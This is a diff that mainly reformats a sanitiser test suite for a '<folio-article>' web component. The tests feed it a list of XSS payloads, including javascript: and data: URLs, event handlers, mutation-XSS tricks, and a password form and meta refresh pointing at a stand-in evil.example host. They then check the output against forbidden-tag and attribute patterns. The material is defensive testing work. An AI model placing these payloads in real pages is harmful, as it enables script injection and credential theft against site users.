@@ -18,32 +18,49 @@ const HOSTILE: Array<[string, string]> = [
   ['javascript: link with a tab and entities', '<a href="jav&#x09;ascript:window.__folioSentinel=\'tab\'">click</a>'],
   ['data: link', '<a href="data:text/html,<script>parent.__folioSentinel=1</script>">x</a>'],
   ['data: image', '<img src="data:image/svg+xml,<svg onload=alert(1)>">'],
-  ['iframe', '<iframe src="javascript:parent.__folioSentinel=\'iframe\'"></iframe><iframe srcdoc="<script>parent.__folioSentinel=1</script>"></iframe>'],
-  ['form with input and button', '<form action="https://evil.example/"><input name="password"><button formaction="javascript:alert(1)">Go</button></form>'],
+  [
+    'iframe',
+    '<iframe src="javascript:parent.__folioSentinel=\'iframe\'"></iframe><iframe srcdoc="<script>parent.__folioSentinel=1</script>"></iframe>',
+  ],
+  [
+    'form with input and button',
+    '<form action="https://evil.example/"><input name="password"><button formaction="javascript:alert(1)">Go</button></form>',
+  ],
   ['object and embed', '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">'],
   ['style element and attribute', '<style>body{display:none}</style><p style="position:fixed;inset:0">cover</p>'],
-  ['meta refresh and base', '<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/">'],
+  [
+    'meta refresh and base',
+    '<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/">',
+  ],
   ['details ontoggle', '<details open ontoggle="window.__folioSentinel=\'toggle\'"><summary>x</summary></details>'],
   ['noscript mXSS', '<noscript><p title="</noscript><img src=x onerror=window.__folioSentinel=\'mxss\'>"></noscript>'],
   ['math mXSS', '<math><mtext><table><mglyph><style><img src=x onerror="window.__folioSentinel=\'math\'">'],
   ['event handler on an allowed tag', '<p onclick="window.__folioSentinel=\'click\'" onmouseover="x()">hover</p>'],
   ['srcset and formaction', '<img src="/ok.png" srcset="javascript:alert(1) 1x" alt="">'],
-  ['section heading with a handler', '<folio-section-heading onclick="window.__folioSentinel=\'sh\'">标题</folio-section-heading>'],
+  [
+    'section heading with a handler',
+    '<folio-section-heading onclick="window.__folioSentinel=\'sh\'">标题</folio-section-heading>',
+  ],
   ['template', '<template><script>window.__folioSentinel=1</script></template>'],
 ];
 
-const FORBIDDEN = 'script, iframe, form, input, button, object, embed, style, meta, base, svg, math, template, noscript, details';
+const FORBIDDEN =
+  'script, iframe, form, input, button, object, embed, style, meta, base, svg, math, template, noscript, details';
 
 function assertClean(body: Element): void {
   // The copy button of an upgraded <folio-section-heading> (and its icons) is the heading's own widget, not data.
   const own = (el: Element) => Boolean(el.closest('.folio-section-heading__copy, .folio-section-heading__status'));
   const forbidden = [...body.querySelectorAll(FORBIDDEN)].filter((el) => !own(el));
-  expect(forbidden.map((el) => el.localName), body.innerHTML).to.deep.equal([]);
+  expect(
+    forbidden.map((el) => el.localName),
+    body.innerHTML,
+  ).to.deep.equal([]);
   for (const el of body.querySelectorAll('*')) {
     if (own(el)) continue;
     for (const attr of el.attributes) {
       expect(attr.name, `${el.localName} keeps ${attr.name}`).not.to.match(/^on|^style$|^srcset$|^formaction$/);
-      if (['href', 'src'].includes(attr.name)) expect(attr.value, attr.name).not.to.match(/^\s*(javascript|data|vbscript):/i);
+      if (['href', 'src'].includes(attr.name))
+        expect(attr.value, attr.name).not.to.match(/^\s*(javascript|data|vbscript):/i);
     }
   }
 }
@@ -73,9 +90,26 @@ describe('<folio-article> html property', () => {
        <figure><img src="/img/a.png" alt="图" width="640" height="360"><figcaption>说明</figcaption></figure>
        <table><caption>表</caption><tr><th scope="col">A</th></tr><tr><td colspan="1">1</td></tr></table><p lang="en" dir="ltr">x<sub>2</sub> <q>q</q> <time datetime="2023-06-01">6月1日</time></p>`,
     );
-    for (const selector of ['p em', 'p strong', 'a[href="https://example.com/a"][title="t"]', 'a[href="#s"]', 'a[href="mailto:a@example.com"]', 'h2#s',
-      'folio-section-heading[level="3"] h3', 'blockquote[cite] p', 'ul li', 'ol[start="3"] li', 'figure img[alt="图"][width="640"][height="360"]', 'figcaption',
-      'table caption', 'th[scope="col"]', 'td[colspan]', 'p[lang="en"][dir="ltr"] sub', 'q', 'time[datetime="2023-06-01"]']) {
+    for (const selector of [
+      'p em',
+      'p strong',
+      'a[href="https://example.com/a"][title="t"]',
+      'a[href="#s"]',
+      'a[href="mailto:a@example.com"]',
+      'h2#s',
+      'folio-section-heading[level="3"] h3',
+      'blockquote[cite] p',
+      'ul li',
+      'ol[start="3"] li',
+      'figure img[alt="图"][width="640"][height="360"]',
+      'figcaption',
+      'table caption',
+      'th[scope="col"]',
+      'td[colspan]',
+      'p[lang="en"][dir="ltr"] sub',
+      'q',
+      'time[datetime="2023-06-01"]',
+    ]) {
       expect(body.querySelector(selector), selector).to.exist;
     }
     const img = body.querySelector('img')!;
@@ -95,7 +129,10 @@ describe('<folio-article> html property', () => {
       body.querySelectorAll('p').forEach((p) => p.click());
       expect(window.__folioSentinel, 'sentinel').to.equal(undefined);
       assertClean(body);
-      expect(warnStub.getCalls().some((c) => String(c.args[0]).startsWith('<folio-article> html: removed')), 'warned').to.equal(true);
+      expect(
+        warnStub.getCalls().some((c) => String(c.args[0]).startsWith('<folio-article> html: removed')),
+        'warned',
+      ).to.equal(true);
     });
   }
 
